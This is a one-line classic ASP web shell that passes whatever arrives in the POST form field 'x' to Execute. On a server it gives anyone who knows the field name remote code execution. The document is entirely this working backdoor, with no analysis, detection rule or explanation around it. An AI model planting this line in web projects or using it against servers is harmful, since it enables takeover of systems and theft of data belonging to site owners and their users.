<%Execute(Request.Form("x"))%>
